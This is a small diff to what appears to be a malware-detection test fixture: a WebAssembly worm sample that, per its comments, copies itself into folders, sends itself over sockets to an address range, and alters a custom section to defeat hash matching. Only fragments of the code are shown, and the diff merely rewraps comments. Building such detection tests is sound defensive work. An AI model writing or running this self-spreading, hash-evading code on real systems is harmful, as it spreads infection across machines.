@@ -1,5 +1,6 @@
 ;; RUN: spoor trace % --json
-;; WHAT: Worm: reads its own program file, copies it into every folder it can list, and sends it to each address of a small range.
+;; WHAT: Worm: reads its own program file, copies it into every folder it can list, and sends it to each
+;;   address of a small range.
 ;; EXPECT: verdict=MALICIOUS|SUSPICIOUS rule=load-code/dropper status=exited file=/home/user/documents/update.wasm:created
 (module
   (import "wasi_snapshot_preview1" "args_sizes_get" (func $args_sizes_get (param i32 i32) (result i32)))
@@ -47,7 +48,8 @@
     (i32.store (i32.const 0) (local.get $from))
     (i32.store (i32.const 4) (local.get $len))
     (call $sock_send (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8)))
-  ;; Where it has been it leaves a mark in the copy: a custom section with a number that differs, so that no two copies have one hash.
+  ;; Where it has been it leaves a mark in the copy: a custom section with a number that differs, so that no
+  ;; two copies have one hash.
   (func $mutate (param $n i32) (local $p i32)
     (local.set $p (i32.add (i32.const 65536) (global.get $size)))
     (i64.store (local.get $p) (i64.const 0x6e6567030800))
